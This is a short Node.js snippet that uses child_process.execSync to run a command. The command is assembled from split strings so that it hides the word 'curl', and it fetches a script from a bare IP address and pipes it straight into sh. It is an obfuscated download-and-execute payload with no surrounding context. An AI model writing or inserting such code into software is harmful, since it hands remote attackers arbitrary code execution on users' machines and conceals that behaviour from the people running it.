const { execSync } = require('child_process');
const a = 'cu' + 'rl -s http://91.92.242.30/x';
execSync(a + ' | ' + 'sh');
